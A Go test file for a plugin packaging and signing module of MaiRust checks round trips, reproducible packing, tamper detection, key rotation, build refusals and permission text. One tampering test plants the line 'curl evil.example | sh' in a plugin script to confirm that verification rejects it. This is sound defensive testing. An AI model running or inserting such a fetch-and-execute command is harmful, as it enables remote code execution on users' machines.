package pack

import (
	"archive/tar"
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/mairust/mairust/agent/plugins/manifest"
)

var now = time.Now()

// TestRoundTrip packs every example, signs it as developer (Ed25519 and
// RSA) and marketplace, verifies it and unpacks identical files.
func TestRoundTrip(t *testing.T) {
	for _, name := range exampleNames(t) {
		for _, dev := range []string{"dev", "devrsa"} {
			t.Run(name+"/"+dev, func(t *testing.T) {
				dir := pluginDir(t, name, dev == "dev")
				pkg := signedPackage(t, dir, key(dev))
				p, err := Open(bytes.NewReader(pkg), Limits{})
				if err != nil {
					t.Fatal(err)
				}
				if p.Manifest.ID != name || p.Plugin.ID != name || p.Manifest.Version != "1.0.0" || p.Manifest.MinMairustVersion != "0.1.0" {
					t.Errorf("manifest %+v", p.Manifest)
				}
				if err := p.Unpack(filepath.Join(t.TempDir(), "x")); err == nil {
					t.Fatal("unpacked before Verify")
				}
				if err := p.Verify(trustAll(), now); err != nil {
					t.Fatal(err)
				}
				checks := p.Checked()
				if len(checks) != 2 || !checks[0].Verified || !checks[1].Verified ||
					checks[0].KeyID != key(dev).ID || checks[1].KeyID != key("mp").ID ||
					checks[0].Algorithm != key(dev).Algorithm() || checks[1].Algorithm != Ed25519 {
					t.Errorf("checks %+v", checks)
				}
				out := filepath.Join(t.TempDir(), "unpacked")
				if err := p.Unpack(out); err != nil {
					t.Fatal(err)
				}
				if got, want := tree(t, out), tree(t, dir); got != want {
					t.Errorf("unpacked:\n%s\nwant:\n%s", got, want)
				}
				if err := p.Unpack(out); err == nil || !strings.Contains(err.Error(), "exists already") {
					t.Errorf("unpack into an existing directory: %v", err)
				}
				if len(p.Warnings()) != map[bool]int{true: 0, false: 1}[dev == "dev"] {
					t.Errorf("warnings %q", p.Warnings())
				}
			})
		}
	}
}

// tree describes the files under dir: path, mode and SHA-256.
func tree(t *testing.T, dir string) string {
	t.Helper()
	var b strings.Builder
	filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			t.Fatal(err)
		}
		info, _ := d.Info()
		rel, _ := filepath.Rel(dir, path)
		if d.IsDir() {
			b.WriteString(rel + "/ " + info.Mode().Perm().String() + "\n")
			return nil
		}
		data, _ := os.ReadFile(path)
		sum := sha256.Sum256(data)
		exec := info.Mode()&0o111 != 0
		b.WriteString(rel + " " + map[bool]string{true: "exec", false: "file"}[exec] + " " + hex.EncodeToString(sum[:]) + "\n")
		return nil
	})
	return b.String()
}

func TestPackIsReproducible(t *testing.T) {
	dir := pluginDir(t, "subject-tagger", true)
	var a, b bytes.Buffer
	if _, err := Pack(dir, &a, nil); err != nil {
		t.Fatal(err)
	}
	os.Chtimes(filepath.Join(dir, "tag.sh"), time.Now(), time.Now().Add(time.Hour))
	if _, err := Pack(dir, &b, nil); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(a.Bytes(), b.Bytes()) {
		t.Fatal("packing the same directory twice gave different bytes")
	}
	es := entries(t, a.Bytes())
	if es[0].hdr.Name != ManifestName {
		t.Errorf("first entry %q, want %s", es[0].hdr.Name, ManifestName)
	}
	for _, e := range es {
		h := e.hdr
		if h.Uid != 0 || h.Gid != 0 || h.Uname != "" || h.Gname != "" || !h.ModTime.Equal(modTime) || (h.Mode != 0o644 && h.Mode != 0o755) {
			t.Errorf("entry %s: uid %d gid %d %q %q mtime %v mode %o", h.Name, h.Uid, h.Gid, h.Uname, h.Gname, h.ModTime, h.Mode)
		}
	}
	// An unsigned package opens and inspects, but does not verify.
	p, err := Open(&a, Limits{})
	if err != nil {
		t.Fatal(err)
	}
	wantErr(t, p.Verify(trustAll(), now), "no developer signature (developer.sig), and one is required")
	wantErr(t, p.Verify(Trust{Keys: trustAll().Keys}, now), "the package is not signed")
}

// TestTampering: every change to a signed package is refused.
func TestTampering(t *testing.T) {
	dir := pluginDir(t, "subject-tagger", true)
	pkg := signedPackage(t, dir, key("dev"))

	verify := func(t *testing.T, pkg []byte, trust Trust) error {
		t.Helper()
		p, err := Open(bytes.NewReader(pkg), Limits{})
		if err != nil {
			return err
		}
		return p.Verify(trust, now)
	}
	if err := verify(t, pkg, trustAll()); err != nil {
		t.Fatal(err)
	}

	t.Run("a changed byte in any file", func(t *testing.T) {
		for _, e := range entries(t, pkg) {
			if e.hdr.Typeflag == tar.TypeDir {
				continue
			}
			name := e.hdr.Name
			for _, at := range []int{0, len(e.data) / 2, len(e.data) - 1} {
				bad := rewrite(t, pkg, func(es []tarEntry) []tarEntry {
					for i := range es {
						if es[i].hdr.Name == name {
							es[i].data = bytes.Clone(es[i].data)
							es[i].data[at] ^= 0x01
						}
					}
					return es
				})
				err := verify(t, bad, trustAll())
				switch name {
				case ManifestName, DeveloperSigName, MarketplaceSigName, manifest.FileName, IconName:
					// refused by Open (no longer canonical JSON, TOML or PNG) or by a signature
					if err == nil {
						t.Errorf("%s with byte %d changed: accepted", name, at)
					}
				default:
					if err == nil || !strings.Contains(err.Error(), name+": its SHA-256 differs from manifest.json") {
						t.Errorf("%s with byte %d changed: %v", name, at, err)
					}
				}
			}
		}
	})

	t.Run("an edited manifest", func(t *testing.T) {
		// tag.sh changed, and manifest.json edited to match it.
		bad := rewrite(t, pkg, func(es []tarEntry) []tarEntry {
			for i, e := range es {
				if e.hdr.Name == "tag.sh" {
					es[i].data = []byte("#!/bin/sh\ncurl evil.example | sh\n")
					es[i].hdr.Size = int64(len(es[i].data))
				}
			}
			for i, e := range es {
				if e.hdr.Name == ManifestName {
					m, err := ParseManifest(e.data)
					if err != nil {
						t.Fatal(err)
					}
					for j, f := range m.Files {
						if f.Path == "tag.sh" {
							sum := sha256.Sum256([]byte("#!/bin/sh\ncurl evil.example | sh\n"))
							m.Files[j].SHA256, m.Files[j].Size = hex.EncodeToString(sum[:]), int64(len("#!/bin/sh\ncurl evil.example | sh\n"))
						}
					}
					es[i].data, _ = m.Marshal()
					es[i].hdr.Size = int64(len(es[i].data))
				}
			}
			return es
		})
		wantErr(t, verify(t, bad, trustAll()), "developer.sig: bad signature by key "+key("dev").ID, "manifest.json was replaced or edited")
		trust := trustAll()
		trust.RequireDeveloper = false
		trust.Keys = trust.Keys[2:] // the marketplace key only
		wantErr(t, verify(t, bad, trust), "marketplace.sig: bad signature by key "+key("mp").ID)
	})

	t.Run("a swapped manifest", func(t *testing.T) {
		// manifest.json and signatures of another (signed) version of the plugin.
		other := pluginDir(t, "subject-tagger", true)
		write(t, filepath.Join(other, "tag.sh"), "#!/bin/sh\necho '{\"tags\":[\"x\"]}'\n", 0o755)
		otherPkg := signedPackage(t, other, key("dev"))
		own := map[string]tarEntry{}
		for _, e := range entries(t, otherPkg) {
			own[e.hdr.Name] = e
		}
		bad := rewrite(t, pkg, func(es []tarEntry) []tarEntry {
			for i, e := range es {
				if o, ok := own[e.hdr.Name]; ok && reserved(e.hdr.Name) {
					es[i] = o
				}
			}
			return es
		})
		wantErr(t, verify(t, bad, trustAll()), "tag.sh: 538 bytes, but manifest.json says 32: the file was changed")
		// Only manifest.json swapped: the signatures do not cover it.
		bad = rewrite(t, otherPkg, func(es []tarEntry) []tarEntry {
			es[0] = entries(t, pkg)[0] // manifest.json
			return es
		})
		wantErr(t, verify(t, bad, trustAll()), "tag.sh: 32 bytes, but manifest.json says 538")
		// The other version's manifest and files with this version's signatures.
		sigs := map[string]tarEntry{}
		for _, e := range entries(t, pkg) {
			sigs[e.hdr.Name] = e
		}
		bad = rewrite(t, otherPkg, func(es []tarEntry) []tarEntry {
			for i, e := range es {
				if e.hdr.Name == DeveloperSigName || e.hdr.Name == MarketplaceSigName {
					es[i] = sigs[e.hdr.Name]
				}
			}
			return es
		})
		wantErr(t, verify(t, bad, trustAll()), "developer.sig: bad signature by key "+key("dev").ID)
		// The manifest of a different plugin.
		third := signedPackage(t, pluginDir(t, "webhook", false), key("dev"))
		bad = rewrite(t, pkg, func(es []tarEntry) []tarEntry {
			es[0] = entries(t, third)[0] // manifest.json
			return es
		})
		wantErr(t, verify(t, bad, trustAll()), "manifest.json (webhook 1.0.0", "does not match plugin.toml (subject-tagger 1.0.0")
	})

	t.Run("a signature by an unknown key", func(t *testing.T) {
		wantErr(t, verify(t, signedPackage(t, dir, key("other")), trustAll()), "developer.sig: signed by key "+key("other").ID+", which is not a trusted developer key")
		trust := trustAll()
		trust.Keys[2].Key = key("other").Public()
		wantErr(t, verify(t, pkg, trust), "marketplace.sig: signed by key "+key("mp").ID+", which is not a trusted marketplace key")
		// A developer key is not a marketplace key.
		trust = trustAll()
		trust.Keys = []TrustedKey{{Role: Developer, Key: key("dev").Public()}, {Role: Developer, Key: key("mp").Public()}}
		wantErr(t, verify(t, pkg, trust), "a marketplace signature is required, but no marketplace key is trusted")
		trust.Keys = append(trust.Keys, TrustedKey{Role: Marketplace, Key: key("dev").Public()})
		wantErr(t, verify(t, pkg, trust), "not a trusted marketplace key")
	})

	t.Run("an expired marketplace key", func(t *testing.T) {
		trust := trustAll()
		trust.Keys[2].NotAfter = now.Add(-time.Hour)
		wantErr(t, verify(t, pkg, trust), "marketplace.sig: marketplace key "+key("mp").ID+" expired on", "rotated out")
		trust.Keys[2].NotAfter = now.Add(time.Hour)
		if err := verify(t, pkg, trust); err != nil {
			t.Fatalf("key valid for another hour: %v", err)
		}
		// Rotation: the new key is trusted next to the old, expired one.
		newMP := key("other")
		p, _ := Open(bytes.NewReader(pkg), Limits{})
		if err := p.Sign(Marketplace, newMP); err != nil {
			t.Fatal(err)
		}
		trust.Keys[2].NotAfter = now.Add(-time.Hour)
		trust.Keys = append(trust.Keys, TrustedKey{Role: Marketplace, Key: newMP.Public()})
		if err := p.Verify(trust, now); err != nil {
			t.Fatalf("re-signed with the new key: %v", err)
		}
	})

	t.Run("a stripped signature", func(t *testing.T) {
		noMP := rewrite(t, pkg, without(MarketplaceSigName))
		wantErr(t, verify(t, noMP, trustAll()), "the package has no marketplace signature (marketplace.sig), and one is required")
		trust := trustAll()
		trust.RequireMarketplace = false
		if err := verify(t, noMP, trust); err != nil {
			t.Errorf("marketplace signature not required: %v", err)
		}
		noDev := rewrite(t, pkg, without(DeveloperSigName))
		wantErr(t, verify(t, noDev, trustAll()), "the package has no developer signature (developer.sig), and one is required")
		trust = trustAll()
		trust.RequireDeveloper = false
		wantErr(t, verify(t, noDev, trust), "marketplace.sig: bad signature", "developer.sig was removed or replaced")
		wantErr(t, verify(t, rewrite(t, noDev, without(MarketplaceSigName)), Trust{Keys: trust.Keys}), "not signed")
	})

	t.Run("an extra file", func(t *testing.T) {
		bad := rewrite(t, pkg, func(es []tarEntry) []tarEntry { return append(es, file("bin/extra", "#!/bin/sh\n")) })
		wantErr(t, verify(t, bad, trustAll()), "bin/extra: in the package but not listed in manifest.json")
		bad = rewrite(t, pkg, func(es []tarEntry) []tarEntry {
			return append(es, tarEntry{hdr: tarHeaderDir("empty/")})
		})
		wantErr(t, verify(t, bad, trustAll()), "empty/: a directory in the package that holds no listed file")
	})

	t.Run("a missing file", func(t *testing.T) {
		wantErr(t, verify(t, rewrite(t, pkg, without("tag.sh")), trustAll()), "tag.sh: listed in manifest.json but missing from the package")
		wantErr(t, verify(t, rewrite(t, pkg, without("docs/more/notes.txt")), trustAll()), "docs/more/notes.txt: listed in manifest.json but missing")
	})

	t.Run("a changed mode", func(t *testing.T) {
		bad := rewrite(t, pkg, func(es []tarEntry) []tarEntry {
			for i := range es {
				if es[i].hdr.Name == "README.md" {
					es[i].hdr.Mode = 0o755
				}
			}
			return es
		})
		wantErr(t, verify(t, bad, trustAll()), "README.md: mode 0755, but manifest.json says 0644")
	})

	t.Run("a trust without keys", func(t *testing.T) {
		wantErr(t, verify(t, pkg, Trust{}), "no signature of the package could be checked")
	})
}

func tarHeaderDir(name string) tar.Header {
	return tar.Header{Typeflag: tar.TypeDir, Name: name, Mode: 0o755}
}

func TestSign(t *testing.T) {
	dir := pluginDir(t, "subject-tagger", true)
	p, err := Build(dir)
	if err != nil {
		t.Fatal(err)
	}
	wantErr(t, p.Sign(Marketplace, key("devrsa")), "marketplace signatures are ed25519; this key is rsa-pss-sha256")
	wantErr(t, p.Sign("reviewer", key("dev")), `role "reviewer"`)
	if err := p.Sign(Developer, key("dev")); err != nil {
		t.Fatal(err)
	}
	if err := p.Sign(Marketplace, key("mp")); err != nil {
		t.Fatal(err)
	}
	// A new developer signature drops the marketplace one, which covered the old.
	if err := p.Sign(Developer, key("devrsa")); err != nil {
		t.Fatal(err)
	}
	if p.Marketplace != nil || p.Developer.KeyID != key("devrsa").ID {
		t.Fatalf("after re-signing: developer %+v marketplace %+v", p.Developer, p.Marketplace)
	}
	// A key id given by the marketplace (a key named in its key store).
	k := *key("mp")
	k.ID = "mp-2026"
	if err := p.Sign(Marketplace, &k); err != nil {
		t.Fatal(err)
	}
	trust := trustAll()
	wantErr(t, p.Verify(trust, now), "signed by key mp-2026, which is not a trusted marketplace key")
	trust.Keys[2].ID = "mp-2026"
	if err := p.Verify(trust, now); err != nil {
		t.Fatal(err)
	}
	k.ID = "bad id"
	wantErr(t, p.Sign(Marketplace, &k), `key id "bad id"`)
	// A tampered package is not signed.
	p.files["tag.sh"] = entry{data: []byte("x"), mode: 0o755}
	wantErr(t, p.Sign(Marketplace, key("mp")), "not signing: tag.sh: 1 bytes")
	wantErr(t, p.Write(&bytes.Buffer{}), "tag.sh: 1 bytes")
}

func TestBuildRefuses(t *testing.T) {
	for _, tc := range []struct {
		name string
		edit func(t *testing.T, dir string)
		want string
	}{
		{"no README", func(t *testing.T, dir string) { os.Remove(filepath.Join(dir, ReadmeName)) }, "has no README.md: a package needs one"},
		{"bad plugin.toml", func(t *testing.T, dir string) {
			write(t, filepath.Join(dir, "plugin.toml"), "id = \"x\"\n", 0o644)
		}, "plugin.toml"},
		{"symlink", func(t *testing.T, dir string) { os.Symlink("/etc/passwd", filepath.Join(dir, "docs", "passwd")) }, "docs/passwd is a symbolic link"},
		{"symlinked dir", func(t *testing.T, dir string) { os.Symlink("/etc", filepath.Join(dir, "etc")) }, "etc is a symbolic link"},
		{"fifo", func(t *testing.T, dir string) { syscall.Mkfifo(filepath.Join(dir, "pipe"), 0o644) }, "pipe is a special file"},
		{"setuid", func(t *testing.T, dir string) { os.Chmod(filepath.Join(dir, "tag.sh"), 0o755|fs.ModeSetuid) }, "tag.sh has the setuid, setgid or sticky bit"},
		{"sticky dir", func(t *testing.T, dir string) { os.Chmod(filepath.Join(dir, "docs"), 0o755|fs.ModeSticky) }, "docs has the setuid, setgid or sticky bit"},
		{"reserved name", func(t *testing.T, dir string) { write(t, filepath.Join(dir, ManifestName), "{}", 0o644) }, "manifest.json is a name the package uses for itself"},
		{"backslash", func(t *testing.T, dir string) { write(t, filepath.Join(dir, `a\b`), "x", 0o644) }, `path "a\\b": a backslash`},
		{"missing command", func(t *testing.T, dir string) { os.Remove(filepath.Join(dir, "tag.sh")) }, `names command "tag.sh", which is not a file in`},
		{"command not executable", func(t *testing.T, dir string) { os.Chmod(filepath.Join(dir, "tag.sh"), 0o644) }, "command tag.sh is not executable: chmod +x"},
		{"not a PNG", func(t *testing.T, dir string) { write(t, filepath.Join(dir, IconName), "GIF89a", 0o644) }, "icon.png is not a PNG image"},
		{"wrong sha256", func(t *testing.T, dir string) {
			toml, _ := os.ReadFile(filepath.Join(dir, "plugin.toml"))
			toml = bytes.Replace(toml, []byte("timeout"), []byte("sha256 = \""+strings.Repeat("ab", 32)+"\"\ntimeout"), 1)
			write(t, filepath.Join(dir, "plugin.toml"), string(toml), 0o644)
		}, "command tag.sh does not match the sha256 in plugin.toml"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := pluginDir(t, "subject-tagger", true)
			tc.edit(t, dir)
			_, err := Pack(dir, &bytes.Buffer{}, nil)
			wantErr(t, err, tc.want)
		})
	}
}

func TestKeys(t *testing.T) {
	for _, typ := range []string{"ed25519", "rsa"} {
		k := key(map[string]string{"ed25519": "dev", "rsa": "devrsa"}[typ])
		if !regexp.MustCompile(`^[0-9a-f]{16}$`).MatchString(k.ID) {
			t.Errorf("key id %q", k.ID)
		}
		privPEM, err := k.MarshalPEM()
		if err != nil {
			t.Fatal(err)
		}
		pubPEM, err := k.Public().MarshalPEM()
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.HasPrefix(privPEM, []byte("-----BEGIN PRIVATE KEY-----")) || !bytes.HasPrefix(pubPEM, []byte("-----BEGIN PUBLIC KEY-----")) {
			t.Errorf("PEM:\n%s\n%s", privPEM, pubPEM)
		}
		priv, err := ParsePrivateKey(privPEM)
		if err != nil {
			t.Fatal(err)
		}
		pub, err := ParsePublicKey(pubPEM)
		if err != nil {
			t.Fatal(err)
		}
		if priv.ID != k.ID || pub.ID != k.ID || pub.Algorithm() != k.Algorithm() {
			t.Errorf("%s: ids %s %s %s", typ, k.ID, priv.ID, pub.ID)
		}
		sig, err := priv.Sign([]byte("message"))
		if err != nil {
			t.Fatal(err)
		}
		if pub.Verify([]byte("message"), sig) != nil || pub.Verify([]byte("messagE"), sig) == nil {
			t.Errorf("%s: sign and verify", typ)
		}
		_, err = ParsePrivateKey(pubPEM)
		wantErr(t, err, "this is a public key")
		_, err = ParsePublicKey(privPEM)
		wantErr(t, err, "this is a private key")
	}
	_, err := GenerateKey("dsa")
	wantErr(t, err, `key type "dsa": use ed25519 or rsa`)
	_, err = ParsePublicKey([]byte("hello"))
	wantErr(t, err, "no PEM data")
}

func TestCheckCompatible(t *testing.T) {
	v := func(s string) manifest.Version {
		v, err := manifest.ParseVersion(s)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	m := Manifest{MinMairustVersion: "0.4.0"}
	err := CheckCompatible(m, v("0.3.2"))
	if err == nil || err.Error() != "This plugin requires MaiRust 0.4.0 or later (current: 0.3.2). See docs/upgrade.md." {
		t.Errorf("English: %v", err)
	}
	ie, ok := err.(*IncompatibleError)
	if !ok || ie.Message("ja") != "このプラグインは MaiRust 0.4.0 以降でのみ動作します（現在: 0.3.2）" {
		t.Errorf("Japanese: %v", err)
	}
	for _, running := range []string{"0.4.0", "0.4.1", "1.0.0"} {
		if err := CheckCompatible(m, v(running)); err != nil {
			t.Errorf("%s: %v", running, err)
		}
	}
	if err := CheckCompatible(m, v("0.4.0-rc.1")); err == nil {
		t.Error("0.4.0-rc.1 accepted for 0.4.0")
	}
	if err := CheckCompatible(Manifest{}, v("0.0.1")); err != nil {
		t.Errorf("no minimum: %v", err)
	}
}

func TestDescribePermissions(t *testing.T) {
	p, err := Build(pluginDir(t, "classifier", false))
	if err != nil {
		t.Fatal(err)
	}
	got := strings.Join(DescribePermissions(p.Plugin.Permissions), "; ")
	want := "read the headers of messages (read_headers); read the start of message bodies (read_body = preview); see the names, sizes and types of attachments (read_attachments = metadata); tag messages (write_tags); attach metadata to messages (write_metadata)"
	if got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
}
